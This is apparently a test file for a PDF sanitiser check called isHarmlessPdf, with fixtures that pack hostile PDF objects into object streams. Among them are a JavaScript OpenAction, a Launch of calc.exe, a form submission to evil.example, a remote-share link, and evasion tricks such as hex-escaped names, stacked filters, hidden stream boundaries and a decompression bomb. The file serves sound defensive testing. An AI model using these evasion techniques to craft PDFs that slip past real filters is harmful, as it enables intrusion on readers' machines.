import { deflateSync } from "node:zlib";
import { expect, test } from "vitest";
import { cpuTime } from "../../../tests/support/cpu-time.ts";
import { packedPdfOf, pdfOf } from "../documents.fixture.ts";
import { isHarmlessPdf } from "./harmless-pdf.ts";

const deflated = (text: string) => deflateSync(text).toString("latin1");
const script = "1 0 <</Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>";
const outline = "7 0 obj<</Type/Outlines/First 8 0 R/Last 9 0 R/Title(\\(Stream\\))>>endobj\n";

test("a PDF with packed objects is one, packed or not, with an outline before it or not", async () => {
  for (const good of [
    packedPdfOf(),
    packedPdfOf({ keys: "/Type/ObjStm/N 3/First 16/Filter[/FlateDecode]" }),
    packedPdfOf({ keys: "/Type/ObjStm/N 3/First 16", packed: "1 0 <</Pages 2 0 R>>" }),
    packedPdfOf({ before: outline }),
    // A page behind an outline, packed in a way that no object is.
    packedPdfOf({
      before: `${outline}8 0 obj<</Filter[/DCTDecode]>>stream \r\n\xff\xd8\nendstream`,
    }),
    // Objects that begin as a name that is looked for.
    packedPdfOf({ objects: "1 0 <</JSon 1/LaunchPad 2/Filtered/First>>" }),
  ])
    expect([good.toString("latin1"), await isHarmlessPdf(good)]).toEqual([expect.anything(), true]);
});

test.each<[string, Parameters<typeof packedPdfOf>[0]]>([
  ["a script", { objects: script }],
  ["a script that is written by numbers", { objects: script.replaceAll("JS", "J#53#20") }],
  ["a program", { objects: "1 0 <</S/Launch/F(calc.exe)>>" }],
  ["a file", { objects: "1 0 <</Type/EmbeddedFile>>" }],
  ["a form with scripts", { objects: "1 0 <</AcroForm<</XFA 5 0 R>>>>" }],
  ["a form that is sent", { objects: "1 0 <</S/SubmitForm/F(http://evil.example)>>" }],
  ["a file of another machine", { objects: "1 0 <</S/GoToR/F(\\\\\\\\evil\\\\share)>>" }],
  ["a script in many letters", { objects: "<<>>".repeat(100_000) + script }],
  ["a script that is not packed", { keys: "/First 5", packed: script }],
])("with %s packed into it, it is none", async (_, parts) => {
  expect(await isHarmlessPdf(packedPdfOf(parts))).toBe(false);
});

const twice = deflateSync(Buffer.from(deflated(script), "latin1")).toString("latin1");
test.each<[string, Parameters<typeof packedPdfOf>[0]]>([
  ["in another way", { keys: "/First 16/Filter/LZWDecode" }],
  ["twice", { keys: "/First 16/Filter[/FlateDecode/FlateDecode]", packed: twice }],
  ["by a name that is written by numbers", { keys: "/#46irst 16/#46ilter/#46lateDecode" }],
  ["by a name of another object", { keys: "/First 16/Filter 9 0 R" }],
  ["in two ways", { keys: "/First 16/Filter/FlateDecode/Filter/ASCIIHexDecode" }],
  ["and made ready for it", { keys: "/First 16/Filter/FlateDecode/DecodeParms<</Predictor 12>>" }],
  ["in another file", { keys: "/First 16/Filter/FlateDecode/F(other)" }],
  ["and encrypted", { packed: `\x17${deflated("1 0 <<>>")}` }],
  ["and cut off", { packed: deflated("<<>>".repeat(900)).slice(0, 20) }],
  ["as a bomb", { packed: deflated("<<>>".repeat(3_000_000)) }],
])("nor is one whose objects are packed %s", async (_, parts) => {
  expect(await isHarmlessPdf(packedPdfOf(parts))).toBe(false);
});

/** What is before the objects' contents, with keys that a text in their dictionary seems to end. */
test.each<[string, string]>([
  ["a text that seems to begin another object", "/First 9/X(endobj 6 0 obj<<)"],
  ["one with brackets in it", "/First 9/X(endobj 6 0 obj<</Y()/Z)"],
  ["one with escaped brackets in it", "/First 9/X(endobj 6 0 obj<</Y \\( )"],
  ["one with a comment in it", "/First 9/X(endobj 6 0 obj<<%)\n"],
  ["one with numbers in it", "/First 9/X(endobj 6 0 obj<</Y<)/Z<00>"],
  ["one that seems to begin the contents", "/X(>>stream\n endstream)/First 9"],
  ["a comment", "/First 9%endobj 6 0 obj<<\n"],
])("nor is one that hides its packed objects by %s", async (_, keys) => {
  const hidden = packedPdfOf({ keys: `${keys}/Filter/FlateDecode`, objects: script });
  expect(await isHarmlessPdf(hidden)).toBe(false);
});

test.each<[string, string]>([
  ["a line that ends with half its sign", "<</First 9/N 1/Filter/FlateDecode>>stream\r"],
  ["something behind the word", "<</First 9/N 1/Filter/FlateDecode>>stream%\n"],
])("nor is one whose contents begin behind %s", async (_, head) => {
  const before = `6 0 obj${head}${deflated(script)}\nendstream endobj\n`;
  expect(await isHarmlessPdf(packedPdfOf({ before }))).toBe(false);
});

test("nor is one with an object inside a picture, to which its table may lead", async () => {
  const picture = (inside: string) => pdfOf(`<</Length 9>>stream\n${inside}\nendstream`);
  expect(await isHarmlessPdf(picture("\xffobj /JS object"))).toBe(true);
  expect(await isHarmlessPdf(picture("7 0 obj<</Type/Page>>"))).toBe(true);
  for (const head of ["7 0 obj", "7%\n0%\nobj", "7\0\x300obj"])
    expect([head, await isHarmlessPdf(picture(`${head}<</S/Launch/F(x)>>`))]).toEqual([
      head,
      false,
    ]);
});

test("ten megabytes of any content hold up no one", async () => {
  const size = 10_000_000;
  for (const piece of [
    "/First",
    "1 0 obj",
    "<<",
    ">>stream",
    "/J#53",
    "(",
    ">>stream\nendstream\n",
  ]) {
    const file = packedPdfOf({ before: piece.repeat(size / piece.length) });
    const started = cpuTime();
    await isHarmlessPdf(file);
    expect([piece, cpuTime() - started < 1_000]).toEqual([piece, true]);
  }
});
